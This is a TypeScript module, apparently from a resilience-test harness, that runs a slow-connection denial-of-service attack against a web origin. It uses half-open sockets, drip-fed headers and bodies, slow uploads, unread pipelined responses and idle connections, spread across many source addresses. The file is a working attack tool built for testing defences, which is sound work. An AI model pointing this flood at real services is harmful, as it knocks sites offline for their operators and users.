import { connect, type Socket } from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';
import { attackerIp } from '../client.ts';
import type { AttackRecord } from './attack-figures.ts';

/** A way to keep a connection open. */
interface Flood {
  /** Bytes sent on opening. */
  opening: string;
  /** Sent every second. */
  drip: string;
  /** Never reads responses, so it does not notice a closed connection: the oldest is replaced. */
  ignoresAnswers?: true;
}

const HEAD = 'Host: localhost\r\n';

/** @param script path of a large file. */
const floodsWith = (script: string): Flood[] => [
  // Half-open.
  { opening: '', drip: '' },
  // Slow headers.
  { opening: `GET / HTTP/1.1\r\n${HEAD}`, drip: 'x-a: b\r\n' },
  // Slow body.
  {
    opening: `POST /rest/v1/rpc/checkout HTTP/1.1\r\n${HEAD}content-length: 100000\r\n\r\n`,
    drip: '[',
  },
  // Slow upload.
  {
    opening: `POST /storage/v1/object/image_product/a.webp HTTP/1.1\r\n${HEAD}content-length: 5000000\r\n\r\n${'x'.repeat(500_000)}`,
    drip: 'x',
  },
  // Unread answers.
  {
    opening: `GET ${script} HTTP/1.1\r\n${HEAD}\r\n`.repeat(2),
    drip: '',
    ignoresAnswers: true,
  },
  // Idle.
  { opening: `GET /config.json HTTP/1.1\r\n${HEAD}\r\n`, drip: '' },
];

/** Open connections of each kind, from one IP and from many. */
const PER_KIND = { flooder: 400, flood: 300 } as const;

/**
 * Each kind opens at most one connection per step to replace a closed one: 400 per second in total.
 */
const STEP_MS = 30;
const STEPS_PER_DRIP = 33;

/** Keeps connections of all kinds open until the given time. */
export async function floodConnections(
  origin: URL,
  until: number,
  record: AttackRecord,
): Promise<void> {
  const { hostname, port } = origin;
  const page = await (await fetch(origin)).text();
  const script = /<script [^>]*src="(\/static\/js\/[^"]+)"/.exec(page)?.[1];
  if (script === undefined) throw new Error(`No script in the page of ${origin}`);
  const floods = floodsWith(script);
  const open = (from: string | undefined, { opening }: Flood): Socket => {
    const socket = connect({
      host: hostname,
      port: Number(port),
      ...(from && { localAddress: from }),
    });
    // Buffered until the connection is open.
    socket.write(opening);
    return socket;
  };
  const keepOpen = async (flood: Flood, from: keyof typeof PER_KIND): Promise<void> => {
    const { figures } = record;
    let opened = 0;
    const sockets = new Set<Socket>();
    for (let step = 0; performance.now() < until; step += 1) {
      const isComplete = sockets.size >= PER_KIND[from];
      if (isComplete && flood.ignoresAnswers) sockets.values().next().value?.destroy();
      if (!isComplete) {
        const socket = open(attackerIp(from, opened), flood);
        sockets.add(socket);
        opened += 1;
        figures.opened += 1;
        socket.on('error', () => undefined);
        if (!flood.ignoresAnswers) socket.resume();
        socket.once('close', () => {
          sockets.delete(socket);
          figures.closed += 1;
        });
      }
      await delay(STEP_MS);
      const drips = flood.drip !== '' && step % STEPS_PER_DRIP === 0;
      for (const socket of sockets) if (drips) socket.write(flood.drip);
    }
    for (const socket of sockets) socket.removeAllListeners('close').destroy();
  };
  await Promise.all(
    floods.flatMap((flood) => [keepOpen(flood, 'flooder'), keepOpen(flood, 'flood')]),
  );
}
